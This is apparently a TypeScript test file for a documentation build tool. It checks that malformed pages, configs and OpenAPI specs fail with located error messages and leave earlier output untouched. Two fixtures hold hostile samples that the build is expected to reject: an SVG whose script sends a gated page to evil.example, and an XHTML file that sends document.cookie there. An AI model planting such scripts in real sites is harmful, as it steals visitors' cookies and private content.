/**
 * The bad-input matrix: every kind of mistake gets a message with the file, the line (or JSON pointer)
 * and the fix, the right exit code, and an untouched previous output. Warnings never stop a build.
 * (The cases of test/build/failures.test.ts and openapi.test.ts are not repeated here.)
 */
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { copyFixture, runDocs, snapshotTree } from '../support/site';

/** Built copies of the fixtures, copied again (with their output) for each case. */
const built: Record<string, string> = {};
beforeAll(() => {
  for (const name of ['basic', 'openapi']) {
    const site = copyFixture(name);
    const run = runDocs(['build'], { cwd: site });
    if (run.code !== 0) throw new Error(run.stderr);
    built[name] = site;
  }
});

/** A fresh copy of a built fixture (its dist and cache included). */
function builtCopy(name: string): string {
  const parent = mkdtempSync(join(tmpdir(), 'docs-bad-'));
  cpSync(join(built[name]!, '..', '_shared'), join(parent, '_shared'), { recursive: true });
  cpSync(built[name]!, join(parent, name), { recursive: true });
  return join(parent, name);
}

interface Case {
  name: string;
  fixture?: 'basic' | 'openapi';
  change: (site: string) => void;
  code: number;
  /** Each must appear in stderr. */
  says: (string | RegExp)[];
  /** None may appear in stderr. */
  absent?: string[];
}

const write = (site: string, rel: string, text: string | Buffer): void => writeFileSync(join(site, rel), text);

const ERRORS: Case[] = [
  {
    name: 'an unclosed admonition',
    change: (site) => write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\nIntro.\n\n:::warning\nMind the gap.\n\nThe rest of the page.\n'),
    code: 1,
    says: ['content/guide/zebra.md:7:1: `:::warning` is never closed, so it takes in the rest of the page', 'fix: add a line with `:::` where the block ends'],
  },
  {
    name: 'an unclosed code fence',
    change: (site) => write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\n```bash\nnpm ci\n\n## Next steps\n'),
    code: 1,
    says: ['content/guide/zebra.md:5:1: code fence ```bash is never closed'.replace('```bash', '`'.concat('```bash', '`')), 'fix: add a line with'],
  },
  {
    name: 'an SVG image holding a script (opened from the site, it ran on its origin and read the gated pages)',
    change: (site) => {
      write(site, 'content/guide/img/evil.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/guide").then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, "https://evil.example"))</script><rect width="10" height="10"/></svg>');
      write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\nThe rack:\n\n![The rack](./img/evil.svg)\n');
    },
    code: 1,
    says: ['content/guide/zebra.md:7:1: image "./img/evil.svg": content/guide/img/evil.svg is an SVG image that holds a script, an event handler or a javascript: link', 'fix: remove its scripts, event handlers and javascript: links (export the drawing again as a plain SVG), or show a PNG instead'],
  },
  {
    name: 'a linked XML document with a script (served as XHTML, it ran on the site)',
    change: (site) => {
      write(site, 'content/guide/img/report.xml', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Results</p><script>location = "https://evil.example/?" + document.cookie</script></body></html>');
      write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\nSee [the report](./img/report.xml).\n');
    },
    code: 1,
    says: ['content/guide/zebra.md:5:5: link to "./img/report.xml": content/guide/img/report.xml is a document that holds a script, an event handler or a javascript: link', 'fix: remove its scripts, event handlers and javascript: links, or link a PDF or plain-text copy instead'],
  },
  {
    name: 'frontmatter after a blank line (published as the page\'s first text)',
    change: (site) => write(site, 'content/guide/zebra.md', '\n---\ntitle: Zebra\ndescription: Stripes\n---\n\nThe rack.\n'),
    code: 1,
    says: ['content/guide/zebra.md:2:1: has its frontmatter after a blank line, where it is not read: the page would show it as text', 'fix: remove the blank lines above the opening ---'],
  },
  {
    name: 'TOML frontmatter (published as text)',
    change: (site) => write(site, 'content/guide/zebra.md', '+++\ntitle = "Zebra"\n+++\n\nThe rack.\n'),
    code: 1,
    says: ['content/guide/zebra.md:1:1: holds TOML frontmatter (between +++ lines), which is not read', 'fix: write it as YAML between --- lines'],
  },
  {
    name: 'a page whose file name is not UTF-8 (it was called a dangling symbolic link)',
    change: (site) => writeFileSync(Buffer.concat([Buffer.from(join(site, 'content', 'guide', 'caf')), Buffer.from([0xe9]), Buffer.from('.md')]), '# Café\n\nOpen from nine.\n'),
    code: 1,
    says: ['content/guide/caf\uFFFD.md: is a file whose name is not valid UTF-8', 'fix: rename it in UTF-8'],
  },
  {
    name: 'a spec whose sidebar names are longer than 1,000 characters (its reference pages embed them all)',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace('title: Teams API', `title: ${'A'.repeat(1_200)}`).replace('summary: Get a team', `summary: ${'S'.repeat(250_000)}`)),
    code: 1,
    says: [
      'specs/api.yaml:3:10#/info/title: `info.title` is 1,200 characters long, more than a sidebar label may be (1,000): it names the API in the sidebar',
      "specs/api.yaml:12:16#/paths/~1teams~1{teamId}/get/summary: the operation's `summary` is 250,000 characters long, more than a sidebar label may be (1,000): it titles the operation's page",
      'fix: shorten it to 1,000 characters or fewer (the longer text belongs in `description`); a sidebar label is shown in a column 288 px wide',
    ],
  },
  {
    name: "a spec whose title or first tag is blank, named at the spec's line (the errors named generated files that do not exist)",
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace('title: Teams API', "title: ''").replace('summary: Get a team', "summary: Get a team\n      tags: ['  ']")),
    code: 1,
    says: [
      "specs/api.yaml:3:10#/info/title: `info.title` is empty: it names the API in the sidebar",
      "#/paths/~1teams~1{teamId}/get/tags/0: the operation's first tag is blank: it names a category of the sidebar",
      "fix: give it a name, e.g. the API's or the group's as readers know it",
    ],
    absent: ['content/guide/api/'],
  },
  {
    name: 'labels longer than 1,000 characters (every page embeds its sidebar: 40 pages with a 250 kB label wrote 503 MB)',
    change: (site) => {
      write(site, 'content/guide/long-label.md', `---\ndescription: Stripes\nsidebar_label: "${'L'.repeat(250_000)}"\n---\n\nThe rack.\n`);
      write(site, 'content/guide/long-title.md', `---\ntitle: ${'T'.repeat(1_001)}\n---\n\nThe rack.\n`);
      write(site, 'content/guide/long-heading.md', `\n# ${'H'.repeat(2_000)}\n\nThe rack.\n`);
      mkdirSync(join(site, 'content', 'guide', 'racks'));
      write(site, 'content/guide/racks/index.md', '# Racks\n');
      write(site, 'content/guide/racks/_category_.yml', `position: 2\nlabel: ${'C'.repeat(1_500)}\n`);
    },
    code: 1,
    says: [
      'content/guide/long-label.md:3: frontmatter `sidebar_label` is 250,000 characters long, more than a sidebar label may be (1,000): every page of its sidebar shows it',
      'content/guide/long-title.md:2: frontmatter `title` is 1,001 characters long, more than a page title may be (1,000)',
      "content/guide/long-heading.md:2:1: its leading `# heading`, the page's title, is 2,000 characters long, more than a page title may be (1,000)",
      'fix: shorten the heading, or give the page a short `title` in its frontmatter (the heading still shows in full)',
      'content/guide/racks/_category_.yml:2#/label: `label` is 1,500 characters long, more than a category label may be (1,000)',
      'fix: shorten it; a sidebar label is shown in a column 288 px wide',
    ],
  },
  {
    name: 'page and folder names ending in .html (the fix suggested the same name)',
    change: (site) => {
      write(site, 'content/guide/notes.html.md', '# Notes\n');
      mkdirSync(join(site, 'content', 'guide', 'old.HTM'));
      write(site, 'content/guide/old.HTM/page.md', '# Old page\n');
    },
    code: 1,
    says: [
      'content/guide/notes.html.md: its route "/guide/notes.html" ends a segment in `.html`, which a browser address drops',
      'fix: rename the file or folder (e.g. to guide/notes-html.md), or set `slug:` in its frontmatter',
      'content/guide/old.HTM/page.md: its route "/guide/old.HTM/page" ends a segment in `.html`',
      'fix: rename the file or folder (e.g. to guide/old-HTM/page.md), or set `slug:` in its frontmatter',
    ],
  },
  {
    name: 'an unknown key in _category_.json (its fix listed five of the nine keys a category file may hold)',
    change: (site) => {
      mkdirSync(join(site, 'content', 'guide', 'racks'));
      write(site, 'content/guide/racks/index.md', '# Racks\n');
      write(site, 'content/guide/racks/_category_.json', JSON.stringify({ label: 'Racks', link: { type: 'generated-index' }, className: 'racks', customProps: { size: 2 }, key: 'racks', icon: 'rack' }, null, 2));
    },
    code: 1,
    says: ['content/guide/racks/_category_.json#/icon: `icon` is not a known key', 'fix: known keys: label, position, description, collapsed, collapsible, link, className, customProps, key\n'],
  },
  {
    name: 'a missing image',
    change: (site) => write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\n![The rack](./img/rack.png)\n'),
    code: 1,
    says: ['content/guide/zebra.md:5:1: image "./img/rack.png" does not exist', 'fix: put the image at content/guide/img/rack.png or correct the path'],
  },
  {
    name: 'an empty content folder',
    change: (site) => rmSync(join(site, 'content'), { recursive: true }),
    code: 1,
    says: ['content: the content folder holds no markdown page', 'fix: add at least one `.md` file'],
  },
  {
    name: 'a file that is not UTF-8',
    change: (site) => write(site, 'content/guide/zebra.md', Buffer.concat([Buffer.from('---\ntitle: Zebra\n---\n\nCaf'), Buffer.from([0xe9]), Buffer.from(' au lait.\n')])),
    code: 1,
    says: ['content/guide/zebra.md:5:4: is not valid UTF-8', 'fix: save the file as UTF-8'],
  },
  {
    name: 'a page saved as UTF-16 (named so, not as a code page)',
    change: (site) => write(site, 'content/guide/zebra.md', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('# Zebra\n', 'utf16le')])),
    code: 1,
    says: ['content/guide/zebra.md:1:1: is not valid UTF-8 (saved as UTF-16 LE, as its first bytes say)', 'fix: save the file as UTF-8'],
  },
  {
    name: 'a site.config.ts that is not UTF-8 (its Latin-1 "é" showed as U+FFFD on every page)',
    change: (site) => write(site, 'site.config.ts', Buffer.concat([Buffer.from("import { fixtureConfig } from '../_shared/config';\n\nexport default fixtureConfig({ tagline: 'Docs du caf"), Buffer.from([0xe9]), Buffer.from("' });\n")])),
    code: 2,
    says: ['site.config.ts:3:53: is not valid UTF-8', 'fix: save the file as UTF-8'],
  },
  {
    name: 'an OpenAPI file that is not UTF-8',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', Buffer.concat([Buffer.from(readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace(/^(\s*title: .*)$/m, '$1 caf')), Buffer.from([0xe9]), Buffer.from('\n')])),
    code: 1,
    says: [/specs\/api\.yaml:\d+:\d+: is not valid UTF-8/, 'fix: save the file as UTF-8'],
  },
  {
    name: 'a site.config.ts with a syntax error',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\n\nexport default fixtureConfig({ title: 'Docs' ;\n"),
    code: 2,
    says: [/site\.config\.ts:3:\d+: does not compile/, 'fix: correct the TypeScript syntax at that place'],
  },
  {
    name: 'a site.config.ts importing a file that is not there',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\nimport { navbar } from './navbar';\n\nexport default fixtureConfig({ navbar });\n"),
    code: 2,
    says: ['site.config.ts:2:24: does not compile: Could not resolve "./navbar"', 'fix: create the file it imports, or correct its path (relative to the file that imports it)'],
  },
  {
    name: 'a site.config.ts importing a package that is not installed (named at its line, not the build cache\'s copy)',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\nimport pad from 'left-pad-not-installed';\n\nexport default fixtureConfig({ title: pad('Docs', 4) });\n"),
    code: 2,
    says: ['site.config.ts:2: imports the package "left-pad-not-installed", which is not installed', 'fix: install it in the site (npm install left-pad-not-installed), or remove the import'],
    absent: ['.cache', 'plain `export default'],
  },
  {
    name: 'a site.config.ts throwing undefined',
    change: (site) => write(site, 'site.config.ts', "if (!process.env.QUAD_BACKEND) throw undefined;\nexport default {};\n"),
    code: 2,
    says: ['site.config.ts: throws while loading: undefined (thrown as a value, not an Error)'],
  },
  {
    name: 'a site.config.ts throwing a string',
    change: (site) => write(site, 'site.config.ts', "throw 'set QUAD_BACKEND first';\nexport default {};\n"),
    code: 2,
    says: ['site.config.ts: throws while loading: "set QUAD_BACKEND first" (thrown as a value, not an Error)'],
  },
  {
    name: 'a site.config.ts calling process.exit(0) (a build that stopped there passed CI with nothing built)',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\n\nif (!process.env.QUAD_BACKEND) process.exit(0);\nexport default fixtureConfig();\n"),
    code: 2,
    says: ['site.config.ts: throws while loading: it calls process.exit(0)'],
  },
  {
    name: 'a site.config.ts whose default export is a Promise (ten "missing key" errors before)',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\n\nexport default Promise.resolve(fixtureConfig());\n"),
    code: 2,
    says: ['site.config.ts: its default export is a Promise, not the settings', 'fix: export the settings themselves'],
  },
  {
    name: 'a site.config.ts whose top-level await never settles (Node ended the build with exit 13 and not a word)',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\n\nconst backend = await new Promise<string>(() => {});\nexport default fixtureConfig({ app: { backendUrl: backend } });\n"),
    code: 2,
    says: ['site.config.ts: never finishes loading: a top-level `await` in it waits for something that never comes', 'fix: await only what settles'],
  },
  {
    name: 'a site.config.ts whose timer throws once it has loaded (a bare stack and exit 1 before)',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\n\nsetTimeout(() => {\n  throw new Error('the backend did not answer');\n}, 0);\nexport default fixtureConfig();\n"),
    code: 2,
    says: ['site.config.ts: fails after loading, in a timer or a promise it started: the backend did not answer', 'fix: await what the config starts'],
  },
  {
    name: 'a site.config.ts with a getter that throws (exit 70 before)',
    change: (site) => write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\n\nexport default { ...fixtureConfig(), get title(): string {\n  throw new Error('no title yet');\n} };\n"),
    code: 2,
    says: ['site.config.ts: throws while its settings are read: no title yet'],
  },
  {
    name: 'an OpenAPI file that is not YAML',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', 'openapi: 3.0.3\ninfo:\n  title: "Teams\n  version: 1.0.0\n'),
    code: 1,
    says: [/specs\/api\.yaml:\d+:\d+: is not valid YAML/, 'fix: fix the YAML syntax'],
  },
  {
    name: 'an OpenAPI 3.1 schema keyword of the wrong type (exit 70 and a stack trace before)',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', 'openapi: 3.1.0\ninfo: {title: T, version: 1.0.0}\npaths:\n  /a:\n    post:\n      operationId: opA\n      requestBody:\n        content:\n          application/json:\n            schema:\n              type: object\n              properties:\n                p:\n                  enum: notalist\n      responses:\n        \'200\': {description: ok}\n'),
    code: 1,
    says: ['specs/api.yaml:14:25#/paths/~1a/post/requestBody/content/application~1json/schema/properties/p/enum: `enum` must be a list, got the string "notalist"', 'fix: write a list, e.g. enum: [active, spare]'],
  },
  {
    name: 'a Swagger 2.0 spec (exit 70 and a stack trace before)',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', 'swagger: "2.0"\ninfo: {title: Old, version: "1"}\nhost: api.example.com\npaths:\n  /a:\n    get:\n      operationId: a\n      responses: {"200": {description: ok}}\n'),
    code: 1,
    says: ['specs/api.yaml:1:10#/swagger: is Swagger 2.0: docs reads OpenAPI 3.0 and 3.1', 'fix: convert it to OpenAPI 3'],
  },
  {
    name: 'an OpenAPI version YAML reads as a number (openapi: 3.1, unquoted)',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace('openapi: 3.0.3', 'openapi: 3.1')),
    code: 1,
    says: ['specs/api.yaml:1:10#/openapi: `openapi` is 3.1, not a version string', 'fix: put the version in quotes with all three parts, e.g. openapi: "3.1.0"'],
  },
  {
    name: 'an OpenAPI version docs does not read',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace('openapi: 3.0.3', 'openapi: "3.2.0"')),
    code: 1,
    says: ['specs/api.yaml:1:10#/openapi: says OpenAPI 3.2.0: docs reads OpenAPI 3.0 and 3.1'],
  },
  {
    name: 'an OpenAPI file with a $ref to nothing',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace("$ref: '#/components/schemas/Team'\ncomponents", "$ref: '#/components/schemas/Teem'\ncomponents")),
    code: 1,
    says: ['specs/api.yaml:26:23#/paths/~1teams~1{teamId}/get/responses/200/content/application~1json/schema/$ref: $ref "#/components/schemas/Teem" points at nothing', 'fix: point the $ref at a component that exists, e.g. one of: #/components/schemas/Team'],
  },
  {
    name: 'an OpenAPI file with a $ref whose fragment is no JSON pointer (it built, the response shown as "#")',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace("$ref: '#/components/schemas/Team'\ncomponents", "$ref: '#components'\ncomponents")),
    code: 1,
    says: ['specs/api.yaml:26:23#/paths/~1teams~1{teamId}/get/responses/200/content/application~1json/schema/$ref: $ref "#components" is no JSON pointer: after the # comes a path from the top of the document', 'fix: write #/components if that is the place meant, e.g. #/components/schemas/Team'],
  },
  {
    name: 'an OpenAPI file with a $ref to __proto__ (it built, the response shown as "any")',
    fixture: 'openapi',
    change: (site) => write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace("$ref: '#/components/schemas/Team'\ncomponents", "$ref: '#/components/schemas/__proto__'\ncomponents")),
    code: 1,
    says: ['specs/api.yaml:26:23#/paths/~1teams~1{teamId}/get/responses/200/content/application~1json/schema/$ref: $ref "#/components/schemas/__proto__" points at nothing', 'fix: point the $ref at a component that exists, e.g. one of: #/components/schemas/Team'],
  },
  {
    name: 'an OpenAPI file with $refs to constructor and toString at any level (an error with no place before)',
    fixture: 'openapi',
    change: (site) =>
      write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace("$ref: '#/components/schemas/Team'\ncomponents", "$ref: '#/components/schemas/constructor'\ncomponents").replace("items:\n            $ref: '#/components/schemas/Team'", "items:\n            $ref: '#/components/toString/Team'")),
    code: 1,
    says: ['specs/api.yaml:26:23#/paths/~1teams~1{teamId}/get/responses/200/content/application~1json/schema/$ref: $ref "#/components/schemas/constructor" points at nothing', 'specs/api.yaml:40:19#/components/schemas/Team/properties/members/items/$ref: $ref "#/components/toString/Team" points at nothing', 'fix: point the $ref at a component that exists, e.g. one of: #/components/schemas'],
  },
  {
    name: 'an OpenAPI file with a $ref to constructor in another file (an error with no place before)',
    fixture: 'openapi',
    change: (site) => {
      mkdirSync(join(site, 'specs', 'schemas'));
      write(site, 'specs/schemas/team.yaml', 'Team:\n  type: object\n');
      write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace("$ref: '#/components/schemas/Team'\ncomponents", "$ref: './schemas/team.yaml#/constructor'\ncomponents"));
    },
    code: 1,
    says: ['specs/api.yaml:26:23#/paths/~1teams~1{teamId}/get/responses/200/content/application~1json/schema/$ref: $ref "./schemas/team.yaml#/constructor" points at nothing in specs/schemas/team.yaml', 'fix: point the $ref at a place that exists, e.g. one of: ./schemas/team.yaml#/Team'],
  },
  {
    name: 'an OpenAPI file whose $ref back into a file read before names constructor (the parser\'s message, naming no line, before)',
    fixture: 'openapi',
    change: (site) => {
      mkdirSync(join(site, 'specs', 'schemas'));
      write(site, 'specs/schemas/team.yaml', "Team:\n  type: object\n  properties:\n    captain:\n      $ref: './member.yaml#/Member'\n");
      write(site, 'specs/schemas/member.yaml', "Member:\n  type: object\n  properties:\n    team:\n      $ref: './team.yaml#/constructor'\n");
      write(site, 'specs/api.yaml', readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace("$ref: '#/components/schemas/Team'\ncomponents", "$ref: './schemas/team.yaml#/Team'\ncomponents"));
    },
    code: 1,
    says: ['specs/schemas/member.yaml:5:13#/Member/properties/team/$ref: $ref "./team.yaml#/constructor" points at nothing in specs/schemas/team.yaml', 'fix: point the $ref at a place that exists, e.g. one of: ./team.yaml#/Team'],
  },
  {
    name: 'an OpenAPI file with a $ref cycle',
    fixture: 'openapi',
    change: (site) =>
      write(site, 'specs/api.yaml', `${readFileSync(join(site, 'specs/api.yaml'), 'utf8').replace("$ref: '#/components/schemas/Team'\ncomponents", "$ref: '#/components/schemas/Squad'\ncomponents")}    Squad:\n      $ref: '#/components/schemas/Crew'\n    Crew:\n      $ref: '#/components/schemas/Squad'\n`),
    code: 1,
    says: [/specs\/api\.yaml:\d+:\d+#\/components\/schemas\/(Squad|Crew): \$ref cycle with no schema in it/, 'fix: give one of these a real schema'],
  },
];

describe('bad input', () => {
  for (const bad of ERRORS) {
    it(`fails on ${bad.name}, naming the place and the fix, and leaves the output untouched`, () => {
      const site = builtCopy(bad.fixture ?? 'basic');
      const before = snapshotTree(join(site, 'dist'));
      bad.change(site);
      const run = runDocs(['build'], { cwd: site });
      expect(run.code, run.stderr).toBe(bad.code);
      for (const text of bad.says) expect(run.stderr).toMatch(typeof text === 'string' ? new RegExp(text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')) : text);
      for (const text of bad.absent ?? []) expect(run.stderr).not.toContain(text);
      expect(run.stderr).toMatch(/Build failed: \d+ errors?; the previous output was left untouched\.\n$/);
      expect(run.stderr).not.toMatch(/at .*\.(m?js|ts):\d+:\d+\)/);
      expect(snapshotTree(join(site, 'dist'))).toEqual(before);
    });
  }

  it('ends a build whose config loops for ever, naming the config and the fix, instead of hanging in silence', () => {
    const site = builtCopy('basic');
    const before = snapshotTree(join(site, 'dist'));
    write(site, 'site.config.ts', "import { fixtureConfig } from '../_shared/config';\n\nlet tries = 0;\nwhile (tries < 10) {\n  // tries++ forgotten\n}\nexport default fixtureConfig();\n");
    const started = Date.now();
    const run = runDocs(['build'], { cwd: site, env: { DOCS_TEST_CONFIG_LIMIT_MS: '2000' }, timeout: 60_000 });
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain('site.config.ts: has run for 2 s without a pause while it loads: a loop in it that never ends?');
    expect(run.stderr).toContain('fix: look for a loop whose condition never changes');
    expect(Date.now() - started).toBeLessThan(30_000);
    expect(snapshotTree(join(site, 'dist'))).toEqual(before);
  });

  it('ends once built although the config left a timer and a server running (a CI job waited for its timeout)', () => {
    const site = copyFixture('basic');
    write(site, 'site.config.ts', "import { createServer } from 'node:http';\nimport { fixtureConfig } from '../_shared/config';\n\nsetInterval(() => undefined, 1000);\ncreateServer().listen(0, '127.0.0.1');\nexport default fixtureConfig();\n");
    for (const args of [['build'], ['build', '--json']]) {
      const run = runDocs(args, { cwd: site, timeout: 60_000 });
      expect(run.code, `${args.join(' ')}: ${run.stderr}`).toBe(0);
      expect(args.includes('--json') ? (JSON.parse(run.stdout) as { ok: boolean }).ok : run.stdout).toBeTruthy();
    }
  });

  it('ends a build whose own promise fails unawaited with an internal error (exit 70), not in silence, and leaves the output untouched', () => {
    const site = builtCopy('basic');
    writeFileSync(join(site, 'content', 'guide', 'faq.md'), `${readFileSync(join(site, 'content', 'guide', 'faq.md'), 'utf8')}\nOne more line.\n`);
    const before = snapshotTree(join(site, 'dist'));
    const run = runDocs(['build'], { cwd: site, env: { DOCS_TEST_STRAY_REJECTION: '1' } });
    expect(run.code, run.stderr).toBe(70);
    expect(run.stderr).toContain('internal error: Error: a promise the build forgot failed');
    expect(snapshotTree(join(site, 'dist'))).toEqual(before);
  });

  it('warns about a showLineNumbers start that is no line number, and numbers the lines from 1 (they lost their numbers in silence)', () => {
    const site = builtCopy('basic');
    write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\n```bash showLineNumbers=99999999999999999999\nnpm ci\n```\n');
    const run = runDocs(['build'], { cwd: site });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stderr).toContain("warning content/guide/zebra.md:5:1: `showLineNumbers=99999999999999999999` is no line number: the first line's number is a whole number from 0 to 1,000,000,000; the lines are numbered from 1\n  fix: write the number of the first line, e.g. showLineNumbers=40, or showLineNumbers alone to start at 1");
    expect(readFileSync(join(site, 'dist', 'guide', 'zebra', 'index.html'), 'utf8')).toContain('class="code-block code-block-numbered"');
  });

  it('warns about a repeated heading without stopping the build', () => {
    const site = builtCopy('basic');
    write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\n## Setup\n\nOn Linux.\n\n## Setup\n\nOn macOS.\n');
    const run = runDocs(['build'], { cwd: site });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stderr).toContain('warning content/guide/zebra.md:9:1: heading "Setup" repeats the heading on line 5; its anchor becomes #setup-1');
    expect(run.stdout).toMatch(/1 warning/);
    expect(readFileSync(join(site, 'dist', 'guide', 'zebra', 'index.html'), 'utf8')).toContain('<h2 id="setup-1">');
  });
});
